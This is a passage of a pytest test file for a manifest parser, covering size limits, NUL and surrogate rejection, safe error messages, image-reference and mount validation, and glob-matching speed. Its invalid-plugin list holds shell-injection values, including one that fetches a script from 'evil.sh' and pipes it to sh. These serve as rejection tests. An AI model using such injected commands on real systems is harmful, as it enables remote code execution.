        "defaults.checks.envs.V: must be at most 32768 bytes",
        id="default-env-value-too-big",
    ),
    # whole payload: env names + values + mount strings over all checks
    pytest.param(
        dump({"defaults": {"checks": {"envs": {"V": "x" * 30000}}}, "checks": [{"plugin": f"c{i}"} for i in range(34)]}),
        None,
        id="payload-34-checks-of-30KB",
    ),
    pytest.param(
        dump({"defaults": {"checks": {"envs": {"V": "x" * 30000}}}, "checks": [{"plugin": f"c{i}"} for i in range(35)]}),
        "checks[34]: the checks' environment variables and mounts add up to more than 1048576 bytes",
        id="payload-35-checks-of-30KB",
    ),
    pytest.param(
        dump(
            {
                "defaults": {
                    "checks": {
                        "mounts": [
                            {"source": f"secrets:S{i}", "destination": f"/{i:02}/" + "d" * 1000} for i in range(50)
                        ]
                    }
                },
                "checks": [{"plugin": f"c{i}"} for i in range(21)],
            }
        ),
        "checks[20]: the checks' environment variables and mounts add up to more than 1048576 bytes",
        id="payload-mounts",
    ),
    # numbers that have no decimal form in Python
    pytest.param(
        header("defaults: {checks: {envs: {A: 0x" + "f" * 5000 + "}}}\n"),
        "defaults.checks.envs.A: number is too large",
        id="env-value-huge-hex-int",
    ),
    pytest.param(
        header("defaults: {checks: {envs: {A: " + ":".join(["59"] * 3000) + "}}}\n"),
        "defaults.checks.envs.A: number is too large",
        id="env-value-huge-sexagesimal-int",
    ),
    pytest.param(
        header("defaults:\n  checks:\n    envs:\n      ? 0x" + "f" * 5000 + "\n      : a\n"),
        "defaults.checks.envs: invalid environment variable name `<20000-bit integer>'",
        id="env-name-huge-int",
    ),
]


@pytest.mark.parametrize(("text", "extra"), LIMIT_CASES)
def test_limits(text, extra):
    if extra is None:
        assert parse_manifest(text).version == "0.1.alpha"
    else:
        assert_invalid(text, extra)


# ------------------------------------------ 2. NUL, lone surrogates, safe messages

TEXT_CASES = [
    pytest.param(
        header('defaults: {checks: {envs: {A: "a\\0b"}}}\n'),
        "defaults.checks.envs.A: must not contain NUL characters",
        id="nul-env-value",
    ),
    pytest.param(
        header('checks: [{plugin: cocov/a, envs: {"A\\x00": b}}]\n'),
        "checks[0].envs: key `A\\x00' must not contain NUL characters",
        id="nul-env-name",
    ),
    pytest.param(header('checks: [{plugin: "a\\0"}]\n'), "checks[0].plugin: must not contain NUL characters", id="nul-plugin"),
    pytest.param(header('exclude_paths: ["a\\0"]\n'), "exclude_paths[0]: must not contain NUL characters", id="nul-exclude"),
    pytest.param(
        header('checks: [{plugin: a, mounts: [{source: "secrets:A", destination: "/x\\0"}]}]\n'),
        "checks[0].mounts[0].destination: must not contain NUL characters",
        id="nul-destination",
    ),
    pytest.param(
        header('checks: [{plugin: a, mounts: [{source: "secrets:A\\0", destination: /x}]}]\n'),
        "checks[0].mounts[0].source: must not contain NUL characters",
        id="nul-source",
    ),
    pytest.param(header('"fo\\0o": 1\n'), "(root): key `fo\\x00o' must not contain NUL characters", id="nul-unknown-root-key"),
    pytest.param(
        header('coverage: {"min_percent\\0": 1}\n'),
        "coverage: key `min_percent\\x00' must not contain NUL characters",
        id="nul-coverage-key",
    ),
    pytest.param(header('foo: [[x, "\\0"]]\n'), "foo[0][1]: must not contain NUL characters", id="nul-deep-in-unknown-key"),
    pytest.param(
        header('defaults: {checks: {envs: {"A\\e": "\\0"}}}\n'),
        "defaults.checks.envs.A\\x1b: must not contain NUL characters",
        id="nul-under-escaped-key",
    ),
    pytest.param(
        header('defaults: {checks: {envs: {"\\ud800": 1}}}\n'),
        "defaults.checks.envs: key `\ufffd' must not contain lone surrogates (invalid Unicode)",
        id="surrogate-env-name",
    ),
    pytest.param(
        header('checks: [{plugin: cocov/a, envs: {A: "x\\udfffy"}}]\n'),
        "checks[0].envs.A: must not contain lone surrogates (invalid Unicode)",
        id="surrogate-env-value",
    ),
    pytest.param(
        header('checks: [{plugin: cocov/a, envs: {A: "\\ud83d\\ude00"}}]\n'),
        "checks[0].envs.A: must not contain lone surrogates (invalid Unicode)",
        id="surrogate-pair-as-escapes",
    ),
    pytest.param(
        header('checks: [{plugin: "cocov/\\udc80"}]\n'),
        "checks[0].plugin: must not contain lone surrogates (invalid Unicode)",
        id="surrogate-plugin",
    ),
    pytest.param(
        header('"\\udc00x": 1\n'),
        "(root): key `\ufffdx' must not contain lone surrogates (invalid Unicode)",
        id="surrogate-root-key",
    ),
]


@pytest.mark.parametrize(("text", "extra"), TEXT_CASES)
def test_nul_and_lone_surrogates_are_rejected(text, extra):
    assert_invalid(text, extra)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ('version: "0.1.alpha\\0"\n', "manifest_version_unsupported"),
        ('checks: [{plugin: "\\0"}]\n', "manifest_missing_version"),
        ('version: "0.2"\nfoo: "\\ud800"\n', "manifest_version_unsupported"),
        ('- "\\0"\n', "manifest_root_must_be_mapping"),
    ],
)
def test_root_and_version_errors_come_before_string_errors(text, kind):
    error = parse_error(text)
    assert (error.kind, error.extra) == (kind, None)


LONG = "A" * 5000
NASTY_MANIFESTS = [
    pytest.param(header(f"{LONG}: 1\n"), id="long-unknown-key"),  # YAML caps simple keys: a ROOT error
    pytest.param(header(f"? {LONG}\n: 1\n"), id="long-explicit-unknown-key"),
    pytest.param(header('"\\e[31mred\\e[0m": 1\n'), id="ansi-unknown-key"),
    pytest.param(header('"\\u202eevil\\u2028x\\x85\\t": 1\n'), id="bidi-and-separators-unknown-key"),
    pytest.param(header(f'checks: [{{plugin: "a\\nb{LONG}"}}]\n'), id="plugin-newline-long"),
    pytest.param(header('checks: [{plugin: a, envs: {"A\\nB": 1}}]\n'), id="env-name-newline"),
    pytest.param(one_check(envs={LONG: 1}), id="env-name-long"),
    pytest.param(header(f'checks: [{{plugin: a, mounts: [{{source: "x\\r\\n{LONG}", destination: /x}}]}}]\n'), id="source"),
    pytest.param(
        header(f"checks: [{{plugin: a, mounts: [{{source: 'secrets:A', destination: /{'d' * 900}}}, "
               f"{{source: 'secrets:B', destination: /{'d' * 900}/}}]}}]\n"),
        id="long-duplicate-destination",
    ),
    pytest.param(header("checks: [{plugin: a}, {plugin: docker.io/a}]\n"), id="duplicated-plugin"),
    pytest.param(header(f"{'a: ' * 1}&x [" + ", ".join(["*x"] * 3) + "]\n"), id="recursive"),
    pytest.param(header("a: " + '{"k\\e": [' * 150 + '"\\0"' + "]}" * 150 + "\n"), id="deep-path"),
]


@pytest.mark.parametrize("text", NASTY_MANIFESTS)
def test_every_extra_is_safe_to_store_and_display(text):
    with pytest.raises(ManifestError) as info:
        parse_manifest(text)
    assert_safe_extra(info.value)


def test_deep_paths_are_shortened_in_messages():
    error = parse_error(header("a: " + '{"k": [' * 150 + '"\\0"' + "]}" * 150 + "\n"))
    assert error.extra.startswith("a.k[0].k[0]") and "…" in error.extra
    assert error.extra.endswith(".k[0].k[0]: must not contain NUL characters")
    assert len(error.extra) < 400


@pytest.mark.parametrize(
    ("value", "echoed"),
    [
        ("plain", "plain"),
        ("a\0b", "a\\x00b"),
        ("\x1b[31m", "\\x1b[31m"),
        ("\x7f\x85\x9f", "\\x7f\\x85\\x9f"),
        ("tab\there\nnl\r", "tab\\x09here\\x0anl\\x0d"),
        ("\ud800x\udfff", "\ufffdx\ufffd"),
        ("rtl\u202eltr\u2066", "rtl\\u202eltr\\u2066"),
        ("line\u2028para\u2029", "line\\u2028para\\u2029"),
        ("é漢字🙂", "é漢字🙂"),
        ("x" * 150, "x" * 100 + "…"),
        (12, "12"),
        (True, "True"),
        (None, "None"),
        (1.5, "1.5"),
        pytest.param(16**5000, "<20001-bit integer>", id="huge-int"),
        (b"\0" * 300, None),  # repr, cut and escaped: checked for safety only
        (("a", "\0"), None),
    ],
)
def test_echo(value, echoed):
    text = manifest_module._echo(value)
    assert not UNSAFE.search(text) and len(text) <= 101
    if echoed is not None:
        assert text == echoed


def test_error_extra_is_sanitized_even_when_built_directly():
    error = ManifestError("k", "Message", "bad\0\ud800\x1b")
    assert error.extra == "bad\\x00\ufffd\\x1b"
    assert str(error) == "Message (bad\\x00\ufffd\\x1b)"
    assert len(ManifestError("k", "M", "x" * 10_000).extra) == 2000


# ------------------------------------------------------------- 3. image references

VALID_PLUGINS = [
    ("cocov/rubocop:v0.1", "cocov/rubocop"),
    ("cocov/rubocop", "cocov/rubocop"),
    ("ghcr.io:443/org/img:tag", "org/img"),
    ("ghcr.io/org/img", "org/img"),
    ("localhost:5000/img:1", "img"),
    ("localhost/img", "img"),
    ("localhost", "localhost"),
    (f"org/img@sha256:{HEX64}", "org/img"),
    (f"org/img:1.2@sha256:{HEX64}", "org/img"),
    ("registry.example.com:5000/a/b/c:latest", "a/b/c"),
    ("Registry.Example.COM/a", "a"),
    ("my-registry:5000/a", "a"),
    ("[::1]:5000/img:1", "img"),
    ("rubocop", "rubocop"),
    ("ghcr.io", "ghcr.io"),
    ("my_org/img", "my_org/img"),
    ("a__b/c-d.e", "a__b/c-d.e"),
    ("a--b/c", "a--b/c"),  # the reference grammar allows runs of dashes
    ("img:V1.0-RC_2", "img"),  # uppercase is fine in a tag
    ("img:_x", "img"),
    ("img:" + "t" * 128, "img"),
    ("a" * 255, "a" * 255),
    ("a1/" + "b/" * 120 + "c", "a1/" + "b/" * 120 + "c"),
]


@pytest.mark.parametrize(("plugin", "name"), VALID_PLUGINS)
def test_valid_plugins(plugin, name):
    check = parse_manifest(dump({"checks": [{"plugin": plugin}]})).checks[0]
    assert (check.plugin, check.name) == (plugin, name)
    assert clean_plugin_name(plugin) == name


INVALID_PLUGINS = [
    "a/b$(reboot)",
    "a/c`id`&&true",
    "cocov/x;curl${IFS}evil.sh|sh",
    "a/b|c",
    "a/b>c",
    "a/b&c",
    "a/b'c",
    'a/b"c',
    "a/b\\c",
    "a/b#c",
    "a/b?x",
    "a/b*",
    "$(x)",
    "http://a/b",
    "Cocov/rubocop",
    "cocov/RuboCop",
    "cocov/a b",
    "--privileged",
    "-a",
    "a-",
    "a.",
    "a..b",
    "a___b",
    "a//b",
    "/a",
    "a/",
    "a:",
    "a:-tag",
    "a:.tag",
    "a:tag:tag",
    "a:" + "t" * 129,
    "a@sha256:abc",
    "a@sha256:" + "A" * 64,
    "a@sha512:" + "0" * 128,
    "a@",
    "@sha256:" + HEX64,
    "localhost:abc/img",
    "ex ample.com/a",
    "-x.com/a",
    "x-.com/a",
    "é/a",
    "ｃocov/a",
    ":v1",
]


@pytest.mark.parametrize("plugin", INVALID_PLUGINS)
def test_invalid_plugins(plugin):
    echoed = plugin if len(plugin) <= 100 else plugin[:100] + "…"
    assert_invalid(dump({"checks": [{"plugin": plugin}]}), f"checks[0].plugin: invalid image reference `{echoed}'")


@pytest.mark.parametrize(
    ("plugin", "extra"),
    [
        ("a" * 256, f"checks[0].plugin: invalid image reference `{'a' * 100}…' (longer than 255 characters)"),
        ("a\nb", "checks[0].plugin: invalid image reference `a\\x0ab'"),
        ("a\tb", "checks[0].plugin: invalid image reference `a\\x09b'"),
        ("x" * 90 + "\x1b" * 20, "checks[0].plugin: invalid image reference `" + "x" * 90 + "\\x1b" * 10 + "…'"),
    ],
)
def test_invalid_plugin_messages(plugin, extra):
    assert_invalid(dump({"checks": [{"plugin": plugin}]}), extra)


def test_image_reference_check_is_fast_on_hostile_input():
    rng = random.Random(7)
    candidates = ["a" + "-" * 253 + "!", "a." * 127 + "!", "a-" * 127 + ":", "a" + ".a-" * 84 + "/", "[" + ":" * 253]
    candidates += ["".join(rng.choice("aA0.-_:/@[]") for _ in range(255)) for _ in range(2000)]
    started = time.perf_counter()
    for candidate in candidates:
        manifest_module._valid_image_reference(candidate)
    assert time.perf_counter() - started < 1


# -------------------------------------------------------- 4. environment names

@pytest.mark.parametrize(
    ("name", "extra"),
    [
        ("A B", "checks[0].envs: invalid environment variable name `A B'"),
        ("A\nB", "checks[0].envs: invalid environment variable name `A\\x0aB'"),
        ("1A", "checks[0].envs: invalid environment variable name `1A'"),
        ("A=B", "checks[0].envs: invalid environment variable name `A=B'"),
        ("", "checks[0].envs: invalid environment variable name `'"),
        ("É", "checks[0].envs: invalid environment variable name `É'"),
        ("A-B", "checks[0].envs: invalid environment variable name `A-B'"),
        ("A.B", "checks[0].envs: invalid environment variable name `A.B'"),
        ("$A", "checks[0].envs: invalid environment variable name `$A'"),
        ("A\n", "checks[0].envs: invalid environment variable name `A\\x0a'"),
        (
            "A" * 256,
            f"checks[0].envs: invalid environment variable name `{'A' * 100}…' (longer than 255 characters)",
        ),
        (True, "checks[0].envs: invalid environment variable name `True'"),
        ("_", None),
        ("A1", None),
        ("a_b", None),
        ("_1", None),
        ("A" * 255, None),
    ],
)
def test_env_names(name, extra):
    text = one_check(envs={name: "v"})
    if extra is None:
        assert parse_manifest(text).checks[0].envs == {name: "v"}
    else:
        assert_invalid(text, extra)


# ------------------------------------------------- 5. mount destinations and secrets

DESTINATION_CASES = [
    ("/", "must not be the root directory"),
    ("//", "must not be the root directory"),
    ("/a/../b", "must not contain `.' or `..' components"),
    ("/a/.", "must not contain `.' or `..' components"),
    ("/..", "must not contain `.' or `..' components"),
    ("/./a", "must not contain `.' or `..' components"),
    ("/a/../", "must not contain `.' or `..' components"),
    ("/x//y/", "must not contain empty path components"),
    ("/a//b", "must not contain empty path components"),
    ("/a/b//", "must not contain empty path components"),
    ("///a", "must not contain empty path components"),
    ("/" + "a" * 1024, "must be at most 1024 characters"),
    ("/a\tb", "must not contain control characters"),
    ("/a\u202eb", "must not contain control characters"),
    ("a/b", "must be an absolute path"),
    ("", "must be an absolute path"),
    ("~/x", "must be an absolute path"),
    ("./x", "must be an absolute path"),
    ("/a/", None),
    ("/a/b", None),
    ("/a..b", None),
    ("/.hidden", None),
    ("/...", None),
    ("/a b/ü", None),
    ("/" + "a" * 1023, None),
]


@pytest.mark.parametrize(("destination", "problem"), DESTINATION_CASES)
def test_mount_destinations(destination, problem):
    text = one_check(mounts=[{"source": "secrets:A", "destination": destination}])
    if problem is None:
        assert parse_manifest(text).checks[0].mounts == (Mount(secret_name="A", destination=destination),)
    else:
        assert_invalid(text, f"checks[0].mounts[0].destination: {problem}")


@pytest.mark.parametrize(
    ("source", "secret"),
    [
        ("secrets:a.b-c_d", "a.b-c_d"),
        ("secrets:_x", "_x"),
        ("secrets:9", "9"),
        ("secrets:GIT_CONFIG", "GIT_CONFIG"),
        ("secrets:" + "a" * 255, "a" * 255),
        ("secrets:A B", None),
        ("secrets:../x", None),
        ("secrets:.x", None),
        ("secrets:-x", None),
        ("secrets:a/b", None),
        ("secrets:a:b", None),
        ("secrets:é", None),
        ("secrets:a\nb", None),
        ("secrets:" + "a" * 256, None),
        ("secret:A", None),
        ("secrets:", None),
        (" secrets:A", None),
    ],
)
def test_mount_sources(source, secret):
    text = one_check(mounts=[{"source": source, "destination": "/x"}])
    if secret is not None:
        assert parse_manifest(text).checks[0].mounts[0].secret_name == secret
        return
    error = parse_error(text)
    echoed = source.replace("\n", "\\x0a")
    echoed = echoed if len(echoed) <= 100 else echoed[:100] + "…"
    assert (error.kind, error.description, error.extra) == (
        "manifest_invalid_mount_source",
        "Failure: Invalid mount source",
        f"Invalid mount source `{echoed}'",
    )


# ------------------------------------------------------------ 6. exclude paths


@pytest.mark.parametrize(
    ("patterns", "extra"),
    [
        (["p"] * 200, None),
        (["p"] * 201, "exclude_paths: at most 200 patterns are allowed"),
        (["p" * 1024], None),
        (["ok", "p" * 1025], "exclude_paths[1]: must be at most 1024 characters"),
    ],
)
def test_exclude_paths_limits(patterns, extra):
    text = dump({"exclude_paths": patterns})
    if extra is None:
        assert parse_manifest(text).exclude_paths == tuple(patterns)
    else:
        assert_invalid(text, extra)


def _reference_translate(pat):
    """The original fnmatch-style translation (exponential on some inputs): the
    specification the new matcher is checked against, on short inputs only."""
    out, i, n = [], 0, len(pat)
    while i < n:
        c = pat[i]
        if c == "*":
            j = i + 1
            while j < n and pat[j] == "*":
                j += 1
            if j - i == 1:
                out.append("[^/]*")
                i = j
            elif (i == 0 or pat[i - 1] == "/") and j < n and pat[j] == "/":
                out.append("(?:.*/)?")
                i = j + 1
            else:
                out.append(".*")
                i = j
        elif c == "?":
            out.append("[^/]")
            i += 1
        elif c == "[":
            j = i + 1
            if j < n and pat[j] == "!":
                j += 1
            if j < n and pat[j] == "]":
                j += 1
            while j < n and pat[j] != "]":
                j += 1
            if j >= n:
                out.append(re.escape(c))
                i += 1
                continue
            body, i = pat[i + 1 : j], j + 1
            negate = body.startswith("!")
            body = body[1:] if negate else body
            parts, k = [], 0
            while k < len(body):
                if k + 2 < len(body) and body[k + 1] == "-":
                    if body[k] <= body[k + 2]:
                        parts.append(f"{re.escape(body[k])}-{re.escape(body[k + 2])}")
                    k += 3
                else:
                    parts.append(re.escape(body[k]))
                    k += 1
            if negate:
                out.append(f"[^/{''.join(parts)}]")
            else:
                out.append(f"(?!/)[{''.join(parts)}]" if parts else "(?!)")
        else:
            out.append(re.escape(c))
            i += 1
    return "".join(out)


def _reference_normalize(path):
    while path.startswith("./"):
        path = path[2:]
    return path.lstrip("/")


@lru_cache(maxsize=None)
def _reference_glob(pattern):
    pattern = _reference_normalize(pattern)
    if pattern.endswith("/"):
        return re.compile(f"(?s:{_reference_translate(pattern.rstrip('/'))}/.*)")
    return re.compile(f"(?s:{_reference_translate(pattern)})")


def _engines(pattern, path):
    glob = manifest_module._compile_glob(pattern)
    return glob._regex_matches(path), glob._nfa_matches(path), glob.matches(path)


@pytest.mark.parametrize(
    ("pattern", "path", "expected"),
    [
        ("*a*a*a*a*a*a*a*a*a*a*a*a", "a" * 40 + "b", False),
        ("*a*a*a*a*a*a*a*a*a*a*a*a", "a" * 40, True),
        ("*a*a*a", "xa/ya/za", False),  # `*` never crosses `/`
        ("**a**a**a", "xa/ya/za", True),  # `**` does
        ("a**b", "ax/yb", True),
        ("**/b", "b", True),  # zero directories
        ("**/b", "x/y/b", True),
        ("**/b", "xb", False),
        ("a/**/b", "a/b", True),
        ("a/**/b", "a/x/y/b", True),
        ("a/**/b", "ab", False),
        ("a/**/**/b", "a/b", True),
        ("**/**", "x", True),
        ("**/*", "x/y", True),
        ("*/", "a/b/c", True),  # trailing slash: everything below
        ("*/", "a", False),
        ("x/**/", "x/y", False),  # x/.*/.* as before: two levels below x
        ("x/**/", "x/y/z", True),
        ("*.js", "a/b.js", False),
        ("**.js", "a/b.js", True),
        ("a*/b", "aaa/b", True),
        ("a*/b", "a/x/b", False),
        ("*a/b", "xa/b", True),
        ("[!a]*", "/", False),
        ("?", "/", False),
        ("[a-]x", "-x", True),
        ("[z-a]", "z", False),
        ("[!z-a]", "q", True),
        ("[", "[", True),
        ("*", "a\nb", True),
        ("**", "a/\n/b", True),
    ],
)
def test_glob_semantics_in_both_engines(pattern, path, expected):
    assert _engines(pattern, path) == (expected, expected, expected)
    if len(path) < 30:
        assert (_reference_glob(pattern).fullmatch(path) is not None) is expected


def test_glob_engines_agree_with_the_reference_translation():
    """Differential test: random short patterns and paths, over an alphabet that hits
    every special case, through the regex, the NFA and the dispatcher."""
    rng = random.Random(20240611)
    pattern_atoms = ["a", "b", "ab", "a/", "/", "*", "*", "?", "[", "]", "!", "-", "[ab]", "[!a]", "**/", "/**", "**"]
    path_atoms = ["a", "b", "/", ".", "-", "!", "]", "ab", "a/", "./", "\n"]
    compared = 0
    for _ in range(2500):
        pattern = "".join(rng.choice(pattern_atoms) for _ in range(rng.randint(1, 8)))
        reference = _reference_glob(pattern)
        for _ in range(8):
            raw = "".join(rng.choice(path_atoms) for _ in range(rng.randint(0, 10)))
            path = _reference_normalize(raw)
            assert manifest_module._normalize_relative_path(raw) == path
            expected = reference.fullmatch(path) is not None
            assert _engines(pattern, path) == (expected,) * 3, (pattern, path)
            compared += 1
    assert compared == 20000


@pytest.mark.parametrize("path", ["a" * 40 + "b", "a" * 40, "a/" * 20 + "b", "ab" * 30])
@pytest.mark.parametrize(
    "pattern",
    [
        "*a*a*a*a*a*a*a*a*a*a*a*a",
        "**a**a**a**a**a**a**a**a**a**a**a**a",
        "**/a*a*a*a*a*a*a*a*a*a*a*a/**",
        "*a*a*a*a*a*a*a*a*a*a*a*a/**",
        "*[a]*?*a*?*a*?*a*?*a*?*a*?*a*?b",
        "**/**/**/**/**/**/**/**/**/**/**/*a*a*a*a*b",
    ],
)
def test_pathological_patterns_are_fast(pattern, path):
    manifest = parse_manifest(dump({"exclude_paths": [pattern]}))
    started = time.perf_counter()
    result = manifest.is_path_excluded(path)
    elapsed = time.perf_counter() - started
    assert elapsed < 0.05, elapsed
    assert result is manifest_module._compile_glob(pattern)._nfa_matches(path)
    # The reference translation would take seconds to minutes here (92 s for the first
    # pattern); check it on a prefix short enough for it.
    assert manifest.is_path_excluded(path[-12:]) is (_reference_glob(pattern).fullmatch(path[-12:]) is not None)


def test_the_reproduction_takes_well_under_50ms(capsys):
    manifest = parse_manifest(header('exclude_paths: ["*a*a*a*a*a*a*a*a*a*a*a*a"]\n'))
    manifest_module._compile_glob.cache_clear()
    started = time.perf_counter()
    assert manifest.is_path_excluded("a" * 40 + "b") is False
    elapsed = time.perf_counter() - started
    assert elapsed < 0.05
    with capsys.disabled():
        print(f"\n[timing] *a*a*...a (12) vs 'a'*40+'b': {elapsed * 1000:.3f} ms (first call, including compile)")


@pytest.mark.parametrize(
    ("pattern", "path"),
    [
        ("**?*" + "a" * 1000 + "b**", "a" * 4095),
        ("**?*" + "a" * 60 + "b**", "a" * 4000),
        ("**" + "?" * 500 + "b", "a" * 4000),
        ("**/" + "*a" * 500, "a/" * 2000),
        ("**/**/" * 170 + "x", "a/" * 2000),
        ("*a" * 512, "a" * 4000 + "b"),
    ],
)
def test_long_paths_against_long_patterns_stay_polynomial(pattern, path):
    """Paths as long as PATH_MAX against 1 KiB patterns: the dispatcher falls back to the
    bit-parallel NFA when the regex's bound gets too high (as it does in the first case,
    where the regex alone would need seconds)."""
    glob = manifest_module._compile_glob(pattern)
    started = time.perf_counter()
    result = glob.matches(path)
    assert time.perf_counter() - started < 0.5
    assert result is glob._nfa_matches(path)


def test_long_hostile_path_uses_the_nfa():
    glob = manifest_module._compile_glob("**?*" + "a" * 60 + "b**")
    path = "a" * 4000
    assert glob._regex_cost(len(path), 1, len(path)) > manifest_module._REGEX_COST_LIMIT
    assert glob._regex_safe_length < len(path)


def test_matching_many_paths_is_fast(capsys):
    rng = random.Random(1)
    dirs = ["app", "lib", "src", "vendor", "node_modules", "docs", "public/js", "spec/models", "app/models/concerns"]
    exts = [".rb", ".py", ".js", ".min.js", ".md", ".txt", ".css"]
    paths = [
        f"{rng.choice(dirs)}/{''.join(rng.choice('abcdefghij_') for _ in range(rng.randint(3, 15)))}{rng.choice(exts)}"
        for _ in range(5000)
    ]
    patterns = [
        "vendor/", "node_modules/", "**/*.min.js", "docs/*.md", "spec/**/*_spec.rb",
        "tmp/**", "**/fixtures/**", "*.txt", "lib/[a-c]*.rb", "src/??.py",
    ]
    manifest = parse_manifest(dump({"exclude_paths": patterns}))
    started = time.perf_counter()
    excluded = sum(manifest.is_path_excluded(path) for path in paths)
    elapsed = time.perf_counter() - started
    expected = sum(any(_reference_glob(p).fullmatch(path) for p in patterns) for path in paths)
    assert excluded == expected
    assert elapsed < 1, elapsed
    with capsys.disabled():
        print(f"\n[timing] 5,000 paths x 10 patterns: {elapsed * 1000:.1f} ms ({excluded} excluded)")
